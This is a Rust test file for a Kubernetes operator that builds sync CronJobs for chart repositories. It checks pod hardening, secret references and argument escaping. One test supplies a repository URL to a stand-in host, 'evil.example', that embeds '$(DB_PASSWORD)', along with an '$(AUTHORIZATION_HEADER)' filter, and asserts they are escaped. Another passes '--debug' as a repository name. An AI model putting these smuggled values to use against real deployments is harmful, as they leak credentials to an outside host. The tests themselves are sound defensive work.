use super::*;

fn pod(cron_job: &Value) -> &Value {
    &cron_job["spec"]["jobTemplate"]["spec"]["template"]
}

fn arguments(cron_job: &Value) -> Vec<String> {
    let arguments = pod(cron_job)["spec"]["containers"][0]["args"].as_array().unwrap();
    arguments
        .iter()
        .map(|argument| argument.as_str().unwrap().to_owned())
        .collect()
}

/// The objects of two repositories with these settings, as JSON files that a change of the builder must change too.
#[test]
fn objects_stay_as_they_are_recorded() {
    let of_plain = objects(&kubeapps(), &plain());
    let limits = JobSettings {
        resources: Resources {
            requests: [("memory".to_owned(), "128Mi".to_owned())].into(),
            limits: [("memory".to_owned(), "1Gi".to_owned())].into(),
        },
        deadline_seconds: Some(3600),
        pull_secrets: vec!["pull".to_owned()],
        ..kubeapps()
    };
    let of_full = objects(&limits, &with_proxy());
    let all = json!({
        "plain": [of_plain.cron_job, of_plain.job, of_plain.cleanup_job],
        "full": [of_full.cron_job, of_full.job, of_full.cleanup_job],
    });
    let recorded = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/src/controllers/apprepository/jobs/tests/objects.json"
    );
    if std::env::var_os("PORTOLAN_RECORD").is_some() {
        fs::write(recorded, serde_json::to_string_pretty(&all).unwrap() + "\n").unwrap();
    }
    let recorded: Value = serde_json::from_str(&fs::read_to_string(recorded).unwrap()).unwrap();
    assert_eq!(recorded, all, "PORTOLAN_RECORD=1 records the objects");
}

#[test]
fn a_url_never_expands_to_a_secret() {
    let url = "https://evil.example/$(DB_PASSWORD)";
    let object = repository(
        "team-a",
        "evil",
        json!({
            "type": "helm", "url": url, "filterRule": { "jq": "$(AUTHORIZATION_HEADER)" },
        }),
    );
    let arguments = arguments(&objects(&kubeapps(), &object).cron_job).join(" ");
    assert!(
        arguments.contains("https://evil.example/$$(DB_PASSWORD)"),
        "{arguments}"
    );
    assert!(arguments.contains("$$(AUTHORIZATION_HEADER)"), "{arguments}");
}

#[test]
fn pods_are_restricted_and_have_no_token() {
    let objects = objects(&kubeapps(), &with_proxy());
    for pod in [pod(&objects.cron_job), &objects.cleanup_job["spec"]["template"]] {
        let (spec, container) = (&pod["spec"], &pod["spec"]["containers"][0]);
        assert_eq!(spec["securityContext"]["runAsNonRoot"], true);
        assert_eq!(spec["securityContext"]["seccompProfile"]["type"], "RuntimeDefault");
        assert_eq!(container["securityContext"]["allowPrivilegeEscalation"], false);
        assert_eq!(container["securityContext"]["capabilities"]["drop"], json!(["ALL"]));
        assert_eq!(spec["automountServiceAccountToken"], false);
    }
}

#[test]
fn passwords_and_credentials_are_references_only() {
    let objects = objects(&kubeapps(), &with_proxy());
    let env = pod(&objects.cron_job)["spec"]["containers"][0]["env"]
        .as_array()
        .unwrap();
    for name in ["DB_PASSWORD", "AUTHORIZATION_HEADER"] {
        let variable = env.iter().find(|variable| variable["name"] == name).unwrap();
        assert!(variable.get("value").is_none() && variable["valueFrom"]["secretKeyRef"]["name"].is_string());
    }
}

#[test]
fn annotations_lower_the_limits_of_the_operator() {
    let mut object = plain();
    object.metadata.annotations = Some(
        [
            ("portolan.dev/index-max-bytes", "1024"),
            ("portolan.dev/fetch-timeout-seconds", "7"),
        ]
        .map(|(key, value)| (key.to_owned(), value.to_owned()))
        .into(),
    );
    let settings = JobSettings {
        sync_flags: vec![("fetch-timeout".to_owned(), "60s".to_owned())],
        ..kubeapps()
    };
    let arguments = arguments(&objects(&settings, &object).cron_job);
    assert!(
        arguments.contains(&"--index-max-bytes=1024".to_owned()),
        "{arguments:?}"
    );
    assert!(arguments.contains(&"--fetch-timeout=7s".to_owned()), "{arguments:?}");
    assert_eq!(
        arguments
            .iter()
            .filter(|argument| argument.starts_with("--fetch-timeout"))
            .count(),
        1
    );
}

#[test]
fn repositories_of_a_registry_are_one_argument_each() {
    let object = repository(
        "kubeapps",
        "oci",
        json!({
            "type": "oci", "url": "oci://registry.example/charts", "ociRepositories": ["nginx", "--debug", "a,b"],
        }),
    );
    let arguments = arguments(&objects(&kubeapps(), &object).cron_job);
    assert!(
        arguments.contains(&r#"--oci-repositories=nginx,--debug,"a,b""#.to_owned()),
        "{arguments:?}"
    );
}

#[test]
fn only_the_job_of_a_request_handles_the_request() {
    let mut object = plain();
    let requested = (crate::api::REQUESTED_AT.to_owned(), "now".to_owned());
    object.metadata.annotations = Some([requested].into());
    let objects = objects(&kubeapps(), &object);
    assert!(
        !arguments(&objects.cron_job)
            .iter()
            .any(|argument| argument.starts_with("--requested-at"))
    );
    let job = objects.job["spec"]["template"]["spec"]["containers"][0]["args"].to_string();
    assert!(job.contains("--requested-at=now"), "{job}");
}
